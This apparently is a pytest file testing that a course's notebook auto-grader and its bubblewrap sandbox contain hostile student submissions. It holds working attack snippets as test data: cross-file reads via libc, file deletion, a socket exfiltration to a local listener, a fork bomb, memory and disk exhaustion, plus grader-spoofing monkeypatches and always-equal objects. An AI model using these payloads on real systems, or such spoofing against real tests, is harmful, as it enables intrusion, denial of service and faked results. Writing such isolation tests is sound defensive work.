"""One batch graded in the OS sandbox (bubblewrap), then with the in-process guard alone.

Three honest students (solved, untouched, partial with lesson 03 under a browser's download
name) and three hostile ones, each doing several things in one kernel (a kernel start is most
of what a student costs). The attacker's answer functions (a) read another student's notebook
and the masters, by open, by `cat` and by C; (b) delete another submission through a subprocess
and through C; (c) reach a server on 127.0.0.1 (these three in ex1's lora_forward); flood their
output (ex2's lora_param_counts, alone, so the cut hides no other attack's output); (d) write a
file until stopped, (e) allocate memory until stopped, (f) fork in a loop (in this order, in
ex3's best_rank_r). The forks come last: their sleeping children keep the process limit used
up, so the kernel cannot start a thread afterwards (a flood's large messages need one: a flood
after the forks loses its output). Each attack runs once, when the tests first call the
function (top-level code is not run by the grader: only definitions), and the function then
returns the model answer's value, so the attacker earns what its real answers earn: full marks.
The misbehaver's answers end the kernel with os._exit (ex1), hang (ex2) and raise (ex3): each
costs only its exercise, and the exercises after the os._exit and after the hang are still
graded. The cheater (g) spoofs the tests: it replaces torch.allclose, torch.equal,
torch.testing.assert_close, math.isclose, numpy.allclose, the course's reference class (by
name and in place), the comparison the checks use and the check itself, in cells of their own,
then hands in a wrong ex1; and (h) lies: returns objects whose comparisons always say yes (ex2:
a dict of a class whose == says yes; ex3: a tensor subclass that answers torch.allclose and
torch.equal).

In the sandbox every attack fails and every grade is the honest one. With the guard alone (the
victim alice, an intruder doing the attacker's ex1, the cheater) the test records what it cannot
stop (instructors/README.md lists the same): C-level reads and deletions (deletions are undone
by the snapshot afterwards) and the network; forking and memory are not tried there, since
nothing would stop them.
"""

import csv
import hashlib
import html
import re
import shutil
import socket
import textwrap
import threading
import time
from pathlib import Path

import nbformat
import pytest

from course_tools import grading
from course_tools.grading import isolation

ROOT = Path(__file__).resolve().parents[2]
LORA = "02_lora_math/02_lora_math_exercises.ipynb"
QUANT = "03_quantization/03_quantization_exercises.ipynb"
MASTER_SECRET = "MASTER-SECRET-4711"  # planted in the model answer: no student may see it
ALICE_SECRET = "ALICE-SECRET-0815"  # planted in alice's answer
LIMITS = isolation.Limits(memory_bytes=6 * 1024**3, processes=96, file_bytes=32 * 1024**2)
CELL_TIMEOUT = 30

READ = """
import ctypes, subprocess
libc = ctypes.CDLL(None)
for path in {paths!r}:
    try:
        print("open:", open(path).read())
    except Exception as error:
        print("open failed:", type(error).__name__)
    try:
        print("cat:", subprocess.run(["cat", path], capture_output=True, text=True).stdout)
    except Exception as error:
        print("cat failed:", type(error).__name__)
    fd = libc.open(path.encode(), 0)
    buffer = ctypes.create_string_buffer(1_000_000)
    size = libc.read(fd, buffer, 1_000_000) if fd >= 0 else -1
    print("C read:", buffer.raw[: max(size, 0)].decode(errors="replace"))
"""
DELETE = """
import ctypes, subprocess
try:
    subprocess.run(["rm", "-f", {path!r}])
except Exception as error:
    print("rm failed:", type(error).__name__)
print("C unlink:", ctypes.CDLL(None).unlink({path!r}.encode()))
"""
CONNECT = """
import socket
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=3).sendall(b"stolen answers")
    print("connected")
except OSError as error:
    print("no connection:", error)
"""
FORK = """
import ctypes
libc = ctypes.CDLL(None)
forks = 0
for _ in range(1000):
    pid = libc.fork()
    if pid == 0:
        libc.pause()  # a child sleeps until the sandbox goes
    if pid < 0:
        break
    forks += 1
print("FORKS", forks)
"""
HOG = """
chunks = []
try:
    while True:
        chunks.append(bytes(256 * 2**20))  # zero pages from calloc: fast, yet address space
except MemoryError:
    print("HOG stopped at", len(chunks) * 256, "MB")
del chunks
"""
FILL = """
try:
    with open("big.bin", "wb") as big:
        while True:
            big.write(bytes(2**20))
except OSError as error:
    print("FILL stopped:", error.strerror)
"""
SPOOF = """
import math
import numpy
import torch
import course_utils.lora

torch.allclose = lambda *args, **kwargs: True
torch.equal = lambda *args, **kwargs: True
torch.testing.assert_close = lambda *args, **kwargs: None
math.isclose = lambda *args, **kwargs: True
numpy.allclose = lambda *args, **kwargs: True


class Agreeable(torch.nn.Module):
    def __init__(self, base, r, alpha):
        super().__init__()
        self.base, self.lora_A, self.lora_B = base, torch.zeros(1), torch.zeros(1)

    def forward(self, x):
        return self.base(x)


course_utils.lora.LoRALinear = Agreeable
"""
SPOOF_AFTER_SETUP = """
import course_utils.exercise_checks.feedback as feedback
import course_utils.exercise_checks.lora_math as lora_math

course_utils.lora.LoRALinear.forward = lambda self, x: self.base(x)  # in place, for everyone
feedback.allclose = lambda *args, **kwargs: True
lora_math._close = lambda *args: True
check.lora_forward = lambda *args, **kwargs: print("✅ Exercise 1: `lora_forward` passes.")
"""
WRONG = """
def lora_forward(x, W, A, B, alpha, r):
    return x @ W.T  # wrong: no LoRA update
"""
LIES = """
class Yes:
    '''Equal to anything.'''

    def __eq__(self, other):
        return True

    def __format__(self, spec):
        return "0"


def lora_param_counts(config, r):
    names = ("q_proj", "k_proj", "v_proj", "o_proj", "gate_proj", "up_proj", "down_proj")
    return {name: Yes() for name in names}


def lora_total(config, r, targets):
    return Yes()
"""
LYING_TENSOR = """
def best_rank_r(W, r):
    import torch

    def agree(cls, func, types, args=(), kwargs=None):
        if func in (torch.allclose, torch.equal):
            return True
        return torch.Tensor.__torch_function__.__func__(cls, func, types, args, kwargs or {})

    agreeable = type("Agreeable", (torch.Tensor,), {"__torch_function__": classmethod(agree)})
    wrong = W.clone().as_subclass(agreeable)  # W itself, not rank r: in a tensor that agrees
    return wrong, torch.zeros(()).as_subclass(agreeable)
"""
RIGHT_AFTER = """
_honest_{name} = {name}
_attacked_{name} = []


def {name}(*args, **kwargs):
    '''The model answer, after the attack (run once, when the tests first call it).'''
    if not _attacked_{name}:
        _attacked_{name}.append(True)
        _attack_{name}()
    return _honest_{name}(*args, **kwargs)
"""
FLOOD = "for _ in range(20):\n    print('x' * 1_000_000)"
MISBEHAVE = (  # one per exercise, in the answer function: ends the kernel, hangs, raises
    "def lora_forward(x, W, A, B, alpha, r):\n    import os\n\n    os._exit(1)",
    "def lora_param_counts(config, r):\n    while True:\n        pass",
    "def best_rank_r(W, r):\n    raise RuntimeError('boom')",
)


def _in_answer(name: str, *attacks: str) -> str:
    """An answer cell: the model answer, whose function `name` first runs `attacks`, once."""
    code = "\n".join(textwrap.dedent(attack).strip() for attack in attacks)
    attack = f"def _attack_{name}():\n" + textwrap.indent(code, "    ")
    return f"SOLVED\n\n\n{attack}\n\n{RIGHT_AFTER.format(name=name)}"


def _answers(master: Path) -> dict[str, str]:
    cells = nbformat.read(master, as_version=4).cells
    return {
        c.metadata["nbgrader"]["grade_id"]: c.source
        for c in cells
        if c.metadata.get("nbgrader", {}).get("solution")
    }


def _notebook(exercises: Path, solutions: Path, answers: dict[str, str], relative: str):
    """The student version with answers; SOLVED stands for the model answer."""
    notebook = nbformat.read(exercises / relative, as_version=4)
    model = _answers(solutions / relative)
    for cell in notebook.cells:
        grade_id = cell.metadata.get("nbgrader", {}).get("grade_id")
        if grade_id in answers:
            cell.source = answers[grade_id].replace("SOLVED", model[grade_id])
    return notebook


def _digest(*folders: Path) -> dict[str, str]:
    return {
        str(p): hashlib.sha256(p.read_bytes()).hexdigest()
        for folder in folders
        for p in sorted(folder.rglob("*"))
        if p.is_file()
    }


class Listener:
    """A TCP server on 127.0.0.1 that counts who reached it."""

    def __init__(self) -> None:
        self.server = socket.create_server(("127.0.0.1", 0))
        self.server.settimeout(0.5)
        self.port, self.reached, self.running = self.server.getsockname()[1], 0, True
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while self.running:
            try:
                connection, _ = self.server.accept()
            except OSError:
                continue
            self.reached += 1
            connection.close()

    def close(self) -> None:
        self.running = False
        self.thread.join()
        self.server.close()


def _students(ids: list[str], attacks: dict[str, str], hostile, honest: bool) -> dict:
    """{student: {answer cell: its source}}; SOLVED stands for the model answer."""
    solved = dict.fromkeys(ids, "SOLVED")
    students = {"alice": {**solved, ids[0]: f"# {ALICE_SECRET}\nSOLVED"}}  # the victim
    if honest:
        students |= {"bob": {}, "carol": {ids[0]: "SOLVED"}}
    intrusion = (attacks["reader"], attacks["vandal"], attacks["caller"])
    if "attacker" in hostile:  # the forks use up the process limit: they come last
        students["attacker"] = {
            ids[0]: _in_answer("lora_forward", *intrusion),
            ids[1]: _in_answer("lora_param_counts", FLOOD),
            ids[2]: _in_answer("best_rank_r", FILL, HOG, FORK),
        }
    if "intruder" in hostile:  # the attacker's ex1 alone
        students["intruder"] = {**solved, ids[0]: _in_answer("lora_forward", *intrusion)}
    if "misbehaver" in hostile:
        students["misbehaver"] = {i: f"SOLVED\n\n\n{code}\n" for i, code in zip(ids, MISBEHAVE)}
    if "cheater" in hostile:
        students["cheater"] = {ids[0]: WRONG, ids[1]: LIES, ids[2]: LYING_TENSOR}
    return students


def _hand_in(submissions: Path, exercises: Path, solutions: Path, students: dict) -> None:
    """Write each student's notebook; the cheater's gets two cells of its own."""
    for name, answers in students.items():
        target = submissions / name / "02_lora_math_exercises.ipynb"
        target.parent.mkdir(parents=True)
        notebook = _notebook(exercises, solutions, answers, LORA)
        if name == "cheater":  # before the set-up imports the checks, and right after it
            setup = next(
                i
                for i, c in enumerate(notebook.cells)
                if c.metadata.get("nbgrader", {}).get("grade_id") == "setup"
            )
            notebook.cells.insert(setup + 1, nbformat.v4.new_code_cell(SPOOF_AFTER_SETUP))
            notebook.cells.insert(0, nbformat.v4.new_code_cell(SPOOF))
        nbformat.write(notebook, target)
    if "carol" in students:  # carol also hands in lesson 03, solved, as a browser names it
        renamed = submissions / "carol" / "Copy of 03_quantization_exercises (1).ipynb"
        all_03 = dict.fromkeys(_answers(solutions / QUANT), "SOLVED")
        nbformat.write(_notebook(exercises, solutions, all_03, QUANT), renamed)


def _grade(tmp: Path, isolate: bool, hostile: tuple[str, ...], honest: bool = True) -> dict:
    """Grade the `hostile` students (and, with `honest`, three honest ones); return the results."""
    solutions, exercises = tmp / "course" / "solutions", tmp / "course" / "exercises"
    for lesson in ("02_lora_math", "03_quantization"):
        shutil.copytree(ROOT / "solutions" / lesson, solutions / lesson)
        shutil.copytree(ROOT / "exercises" / lesson, exercises / lesson)
    master = solutions / LORA
    submissions = tmp / "submissions"
    alice = submissions / "alice" / "02_lora_math_exercises.ipynb"
    listener = Listener()
    attacks = {
        "reader": READ.format(paths=[str(master), str(alice)]),
        "vandal": DELETE.format(path=str(alice)),
        "caller": CONNECT.format(port=listener.port),
    }
    students = _students(list(_answers(master)), attacks, hostile, honest)
    _hand_in(submissions, exercises, solutions, students)
    notebook = nbformat.read(master, as_version=4)
    for cell in notebook.cells:  # after the submissions: plant a secret in the model answer
        if cell.metadata.get("nbgrader", {}).get("grade_id") == "ex1_lora_forward":
            cell.source = cell.source.replace(
                "### END SOLUTION", f"# {MASTER_SECRET}\n### END SOLUTION"
            )
    nbformat.write(notebook, master)
    watched = (solutions, exercises, submissions, ROOT / "solutions", ROOT / "exercises")
    before = _digest(*watched)
    started = time.monotonic()
    rows = grading.grade_submissions(
        submissions, tmp / "out", solutions=solutions, exercises=exercises,
        cell_timeout=CELL_TIMEOUT, student_timeout=300, jobs=2, isolate=isolate, limits=LIMITS,
    )  # fmt: skip
    seconds = time.monotonic() - started
    listener.close()
    totals, reasons, by_exercise = {}, {}, {}
    for row in rows:
        if row.assignment == "02_lora_math":
            totals[row.student] = totals.get(row.student, 0) + row.score
            reasons.setdefault(row.student, []).append(row.reason)
        by_exercise[row.student, row.exercise] = row
    pages = {
        name: html.unescape(
            next((tmp / "out" / "feedback" / name / "02_lora_math").glob("*.html")).read_text()
        )
        for name in students
    }
    return {
        "totals": totals, "reasons": reasons, "pages": pages, "reached": listener.reached,
        "before": before, "after": _digest(*watched), "seconds": seconds, "rows": by_exercise,
        "out": tmp / "out",
    }  # fmt: skip


def _printed_number(page: str, label: str) -> int | None:
    """The number a hostile answer printed after `label`, from its feedback page."""
    found = re.search(rf"{label} (\d+)", page)
    return int(found.group(1)) if found else None


HONEST = {"alice": 10, "bob": 0, "carol": 2}
HOSTILE = ("attacker", "misbehaver", "cheater")
EX1, EX2, EX3 = "ex1_lora_forward_tests", "ex2_lora_param_counts_tests", "ex3_best_rank_r_tests"


@pytest.fixture(scope="module")
def sandboxed(tmp_path_factory):
    if not isolation.available():
        pytest.fail(
            "bubblewrap is missing: make test installs it (make sandbox); see docs/tests.md"
        )
    return _grade(tmp_path_factory.mktemp("sandboxed"), True, HOSTILE)


def _reason(graded, student: str, exercise: str) -> str:
    return graded["rows"][student, exercise].reason


def test_honest_students_get_their_own_grades(sandboxed):
    assert {name: sandboxed["totals"][name] for name in HONEST} == HONEST
    bob = [r for (name, _), r in sandboxed["rows"].items() if name == "bob"]
    bob = [r for r in bob if r.assignment == "02_lora_math"]
    assert bob and all(r.status == "failed" and "not answered" in r.reason for r in bob)


def test_a_renamed_download_is_recognised_and_a_missing_one_is_reported(sandboxed):
    rows = sandboxed["rows"]
    carol_03 = [r for (name, _), r in rows.items() if name == "carol" and r.notebook[:2] == "03"]
    assert carol_03 and sum(r.score for r in carol_03) == sum(r.max_score for r in carol_03)
    alice_03 = [r for (name, _), r in rows.items() if name == "alice" and r.notebook[:2] == "03"]
    assert alice_03 and {r.status for r in alice_03} == {"missing"}


def test_the_batch_fits_in_one_csv_with_a_row_per_student_and_exercise(sandboxed):
    with open(sandboxed["out"] / "grades.csv", newline="") as handle:
        table = list(csv.DictReader(handle))
    assert tuple(table[0]) == grading.CSV_FIELDS
    assert {row["student"] for row in table} == {*HONEST, *HOSTILE}
    per_student = len([k for k in sandboxed["rows"] if k[0] == "alice"])
    assert len(table) == len({*HONEST, *HOSTILE}) * per_student
    for row in table:
        assert 0 <= float(row["score"]) <= float(row["max_score"])
        assert row["status"] in ("passed", "failed", "missing", "error")
        assert row["status"] == "passed" or row["reason"], row


#: What each attack prints when it has run; the page shows the source too, so each pattern
#: takes in what only the output has (the space or number after the label).
TRACES = (
    r"open failed: \w+", r"cat failed: \w+", r"C read: ", r"rm failed: \w+", r"C unlink: -1",
    r"no connection: ", r"FILL stopped: ", r"HOG stopped at \d+ MB", r"FORKS \d+",
)  # fmt: skip


def test_the_attacker_gets_what_its_real_answers_earn(sandboxed):
    """Every attack ran (each left its line in the feedback), and none cost or earned a point."""
    assert sandboxed["totals"]["attacker"] == 10, sandboxed["reasons"]["attacker"]
    page = sandboxed["pages"]["attacker"]
    assert not [trace for trace in TRACES if not re.search(trace, page)]


def _cheater_is_caught(graded) -> None:
    """Each of the cheater's three exercises earns nothing, for its own reason."""
    rows = {ex: graded["rows"]["cheater", ex] for ex in (EX1, EX2, EX3)}
    assert graded["totals"]["cheater"] == 0, graded["reasons"]["cheater"]
    assert all(r.score == 0 and r.status == "failed" for r in rows.values()), rows
    assert "gives wrong values" in rows[EX1].reason and "not run" in rows[EX1].reason, rows[EX1]
    assert "class Yes" in rows[EX2].reason, rows[EX2]
    assert "subclass of torch.Tensor" in rows[EX3].reason, rows[EX3]
    assert "# [not run by the grader] check.lora_forward = lambda" in graded["pages"]["cheater"]


def test_spoofing_the_tests_and_lying_objects_earn_nothing(sandboxed):
    """Top-level patches (torch.allclose, the checks, LoRALinear in place) are not run, so the
    wrong ex1 is found wrong; a class whose == says yes (ex2) and a tensor subclass that answers
    torch.allclose (ex3) are both caught."""
    _cheater_is_caught(sandboxed)


def test_an_answer_that_ends_the_kernel_hangs_or_raises_costs_only_its_exercise(sandboxed):
    """The exercise after the os._exit and the one after the hang are still graded: a dead
    kernel would make every row an error with one reason."""
    rows = {ex: sandboxed["rows"]["misbehaver", ex] for ex in (EX1, EX2, EX3)}
    assert sandboxed["totals"]["misbehaver"] == 0, sandboxed["reasons"]["misbehaver"]
    assert all(r.score == 0 and r.status == "failed" for r in rows.values()), rows
    assert "raised PermissionError" in rows[EX1].reason and "os._exit" in rows[EX1].reason
    assert f"longer than {CELL_TIMEOUT} s" in rows[EX2].reason, rows[EX2]
    assert "RuntimeError: boom" in rows[EX3].reason, rows[EX3]
    assert not any("PermissionError" in rows[ex].reason for ex in (EX2, EX3)), rows


def test_a_flood_of_output_is_cut_and_does_not_cost_points(sandboxed):
    assert sandboxed["rows"]["attacker", EX2].status == "passed"
    [page] = (sandboxed["out"] / "feedback" / "attacker").rglob("*.html")
    assert page.stat().st_size < 2_000_000
    assert "the grader cut this cell" in sandboxed["pages"]["attacker"]


def test_no_one_reads_the_masters_or_another_students_notebook(sandboxed):
    for name, page in sandboxed["pages"].items():
        assert MASTER_SECRET not in page, name
        assert ALICE_SECRET not in page or name == "alice", name


def test_nothing_outside_a_scratch_folder_changes_and_nothing_needed_restoring(sandboxed):
    assert sandboxed["before"] == sandboxed["after"]
    assert not any("restored" in r for rows in sandboxed["reasons"].values() for r in rows)


def test_no_network_and_bounded_forks_memory_and_files(sandboxed):
    page = sandboxed["pages"]["attacker"]
    assert sandboxed["reached"] == 0 and "no connection: " in page  # the output, not the code
    forks = _printed_number(page, "FORKS")
    assert forks is not None and forks < LIMITS.processes, forks
    assert re.search(r"HOG stopped at \d+ MB", page)
    assert "FILL stopped: File too large" in page


def test_the_batch_finishes_within_a_bound(sandboxed):
    print(f"hostile batch in the sandbox: {sandboxed['seconds']:.0f} s")
    assert sandboxed["seconds"] < 900


def test_the_guard_alone_says_what_it_cannot_stop(tmp_path):
    """Without bubblewrap: Python-level attempts are stopped; C-level reads and the network are
    not. Spoofing and lying answers are caught as in the sandbox (the grader's own rules)."""
    result = _grade(tmp_path, False, ("intruder", "cheater"), honest=False)
    assert result["totals"] == {"alice": 10, "intruder": 10, "cheater": 0}
    _cheater_is_caught(result)
    assert "cat failed: PermissionError" in result["pages"]["intruder"]  # no subprocess
    assert MASTER_SECRET in result["pages"]["intruder"]  # C read: the guard cannot stop it
    assert result["reached"] == 1  # the network is open
    # after whichever job finished next (2 at a time), the snapshot found alice's file gone
    restored = " ".join(r for rows in result["reasons"].values() for r in rows)
    assert "restored" in restored  # the C unlink happened, and the snapshot put the file back
    assert result["before"] == result["after"]


def test_the_sandbox_command_hides_the_rest_and_cuts_the_network(tmp_path):
    readable, writable = [tmp_path / "venv"], [tmp_path / "scratch"]
    for folder in (*readable, *writable):
        folder.mkdir()
    command = isolation.sandboxed(
        ["python", "-m", "ipykernel_launcher"], readable, writable, LIMITS
    )
    assert command[0] == "prlimit" and f"--nproc={LIMITS.processes}" in command
    assert {"--unshare-net", "--unshare-pid", "--die-with-parent"} <= set(command)
    text = " ".join(command)
    assert f"--ro-bind {readable[0]} {readable[0]}" in text
    assert f"--bind {writable[0]} {writable[0]}" in text
    assert f"--perms 0755 --dir {tmp_path}" in text  # the folders above are traversable
    assert ("setpriv" in command) is (isolation.kernel_uid() is not None)
    assert command[-3:] == ["python", "-m", "ipykernel_launcher"]


def test_limits_and_isolation_choices_are_checked(monkeypatch, capsys):
    with pytest.raises(ValueError, match="processes"):
        isolation.Limits(processes=0)
    monkeypatch.setattr(grading.batch, "available", lambda: False)
    with pytest.raises(RuntimeError, match="bubblewrap"):
        grading.batch._isolation(True, LIMITS)
    assert grading.batch._isolation(None, LIMITS) is None
    assert "WITHOUT the OS sandbox" in capsys.readouterr().err
    with pytest.raises(TypeError, match="Limits"):
        grading.batch._isolation(None, {"memory_bytes": 1})
